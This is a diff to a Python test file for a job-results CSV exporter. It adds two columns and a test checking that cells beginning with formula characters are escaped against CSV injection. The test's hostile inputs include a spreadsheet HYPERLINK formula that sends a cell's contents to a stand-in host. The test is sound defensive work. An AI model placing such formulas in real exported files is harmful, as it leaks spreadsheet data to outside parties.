@@ -136,6 +136,8 @@ def test_csv_rows_match_the_results_entries(tmp_path: Path) -> None:
             "http_status": error.get("http_status"),
             "error_message": error.get("message"),
             "files": len(job.get("files", [])),
+            "reason": job.get("reason"),
+            "duplicate_of": job.get("duplicate_of"),
         }
         assert row == {k: "" if v is None else str(v) for k, v in expected.items()}
     assert rows[4]["source"] == 'https://cdn.example.com/d,"x".mp3?duration=120'
@@ -290,3 +292,27 @@ def test_missing_or_unreadable_file_is_one_clear_line(tmp_path: Path) -> None:
     for path, says in [(tmp_path / "nope.yaml", "No such file"), (tmp_path, "Is a directory")]:
         with pytest.raises(ConfigError, match=f"^cannot read the results file {path}: {says}"):
             load_results(path)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    tmp_path: Path,
+) -> None:
+    """Names, errors and metadata beginning with =, +, -, @, a tab or a CR get a "'" in
+    front (OWASP's advice for CSV injection); numbers and other text are left as they are;
+    reason and duplicate_of are columns of their own."""
+    path, _ = _mixed_run(tmp_path)
+    results = path.with_name("jobs.results.yaml")
+    data = yaml.safe_load(results.read_text(encoding="utf-8"))
+    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx"]
+    for job, text in zip(data["jobs"], hostile, strict=True):
+        job["name"] = text
+        job["error"] = {"type": "X", "message": text, "http_status": None}
+        job["meta"] = {"title": text, "plain": "Night Drive"}
+    results.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    rows = _csv_rows(render_csv(load_results(results)))
+    for row, text in zip(rows, hostile, strict=True):
+        assert row["name"] == row["error_message"] == row["meta.title"] == "'" + text
+        assert row["meta.plain"] == "Night Drive"
+        assert not row["estimated_cents"].startswith("'")
+    assert rows[3]["reason"] and rows[3]["status"] == "skipped"
+    assert rows[3]["duplicate_of"] == "song"
